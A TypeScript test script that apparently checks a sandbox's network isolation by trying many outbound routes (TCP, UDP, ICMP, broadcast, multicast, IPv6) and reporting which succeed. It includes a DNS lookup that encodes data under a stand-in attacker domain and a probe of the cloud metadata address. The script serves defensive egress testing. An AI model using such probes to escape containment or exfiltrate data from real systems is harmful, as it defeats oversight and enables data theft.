// Run as a role's user inside the namespace: tries to get out in every way there is, and says which of them it believes went.
// Arguments: a name that stands in whatever is sent, and `all` or `gateway` (without what the host lets the gateway do).

import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { connect } from 'node:net';
import { EVIL, PUBLIC_ADDRESS, THERE } from './border-net.ts';

const [mark = '', which = 'all'] = process.argv.slice(2);
/** A dropped packet never answers; a refused one does at once. */
const PATIENCE_MS = 400;

type Way = readonly [name: string, go: () => Promise<boolean>];

async function tcp(host: string, port: number): Promise<boolean> {
  return await new Promise((resolve) => {
    const socket = connect({ host, port });
    const end = (went: boolean): void => {
      clearTimeout(limit);
      socket.destroy();
      resolve(went);
    };
    const limit = setTimeout(() => end(false), PATIENCE_MS);
    socket.once('connect', () => {
      socket.write(`${mark}\r\n`, () => end(true));
    });
    // A refusal from the other side means that something got there.
    socket.once('error', (error) => end('code' in error && error.code === 'ECONNREFUSED'));
  });
}

async function udp(
  host: string,
  port: number,
  options: { broadcast?: true } = {},
): Promise<boolean> {
  return await new Promise((resolve) => {
    const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4');
    socket.once('error', () => resolve(false));
    socket.bind(0, () => {
      if (options.broadcast === true) socket.setBroadcast(true);
      socket.send(mark, port, host, (error) => {
        socket.close();
        resolve(error === null);
      });
    });
  });
}

async function ping(...args: string[]): Promise<boolean> {
  return await promisify(execFile)('ping', ['-c', '1', '-W', '1', ...args]).then(
    () => true,
    () => false,
  );
}

async function name(host: string): Promise<boolean> {
  return await lookup(host).then(
    () => true,
    () => false,
  );
}

/** What the host's rules let the gateway's user do is tried through the gateway's own door instead. */
const OPEN_TO_GATEWAY: readonly Way[] = [
  ['tcp 80', () => tcp(THERE.v4, 80)],
  ['tcp 443 of the public', () => tcp(PUBLIC_ADDRESS, 443)],
  ['tcp 80 of the cloud’s metadata', () => tcp('169.254.169.254', 80)],
  ['tcp of the other cell', () => tcp(THERE.v4, 8790)],
  ['udp 53 of the resolver', () => udp(THERE.v4, 53)],
  ['a name', () => name(`${mark}.leak.${EVIL}`)],
];

const SHUT_TO_ALL: readonly Way[] = [
  ['tcp 22', () => tcp(THERE.v4, 22)],
  ['tcp 25, mail', () => tcp(THERE.v4, 25)],
  ['tcp 53 elsewhere', () => tcp('8.8.8.8', 53)],
  ['tcp 5432, a database', () => tcp(THERE.v4, 5432)],
  ['tcp 6379, a cache', () => tcp(PUBLIC_ADDRESS, 6379)],
  ['tcp 9000, a store', () => tcp(THERE.v4, 9000)],
  ['udp 53 elsewhere', () => udp('8.8.8.8', 53)],
  ['udp 123, time', () => udp(THERE.v4, 123)],
  ['udp 443, QUIC', () => udp(PUBLIC_ADDRESS, 443)],
  ['udp 514, a log server', () => udp(THERE.v4, 514)],
  ['udp to everybody here', () => udp('255.255.255.255', 9, { broadcast: true })],
  ['udp multicast', () => udp('224.0.0.251', 5353)],
  ['icmp', () => ping(THERE.v4)],
  ['icmp of the public', () => ping(PUBLIC_ADDRESS)],
  ['icmp over IPv6', () => ping('-6', THERE.v6)],
  ['udp over IPv6', () => udp(THERE.v6, 53)],
  ['tcp 25 over IPv6', () => tcp(THERE.v6, 25)],
  ['tcp 22 of the public over IPv6', () => tcp('2606:2800:21f:cb07::1', 22)],
  ['udp multicast over IPv6', () => udp('ff02::fb', 5353)],
  ['tcp 1883, messages', () => tcp(PUBLIC_ADDRESS, 1883)],
];

const went: string[] = [];
const ways = which === 'gateway' ? SHUT_TO_ALL : [...OPEN_TO_GATEWAY, ...SHUT_TO_ALL];
await Promise.all(ways.map(async ([way, go]) => ((await go()) ? went.push(way) : 0)));
process.stdout.write(`${JSON.stringify({ tried: ways.length, went })}\n`);
